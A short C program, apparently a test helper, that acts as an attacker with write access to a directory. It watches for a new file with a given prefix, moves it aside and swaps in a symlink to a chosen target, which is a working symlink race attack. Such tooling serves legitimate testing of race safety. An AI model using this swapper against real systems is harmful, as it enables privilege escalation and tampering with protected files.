/* An attacker who can write DIR: wait (inotify) for an entry whose name
 * starts with PREFIX, move it aside (NAME.moved) and put a symlink to
 * TARGET in its place, as fast as possible.  Exit 0 once swapped.
 * usage: swapin DIR PREFIX TARGET */
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

int
main (int argc, char **argv)
{
    if (argc != 4)
        return 2;
    int in = inotify_init1 (IN_CLOEXEC);
    if (in < 0 || inotify_add_watch (in, argv[1], IN_CREATE) < 0) {
        perror ("swapin: inotify");
        return 1;
    }
    char buf[8192] __attribute__ ((aligned (8)));
    for (;;) {
        ssize_t n = read (in, buf, sizeof (buf));
        if (n <= 0)
            return 1;
        for (char *p = buf; p < buf + n;) {
            const struct inotify_event *e = (const struct inotify_event *) p;
            p += sizeof (*e) + e->len;
            if (e->len == 0 || strncmp (e->name, argv[2], strlen (argv[2])) != 0)
                continue;
            char path[4096], away[4200];
            snprintf (path, sizeof (path), "%s/%s", argv[1], e->name);
            snprintf (away, sizeof (away), "%s.moved", path);
            if (rename (path, away) < 0 || symlink (argv[3], path) < 0) {
                perror ("swapin: swap");
                return 1;
            }
            fprintf (stderr, "swapin: %s now points to %s\n", path, argv[3]);
            return 0;
        }
    }
}
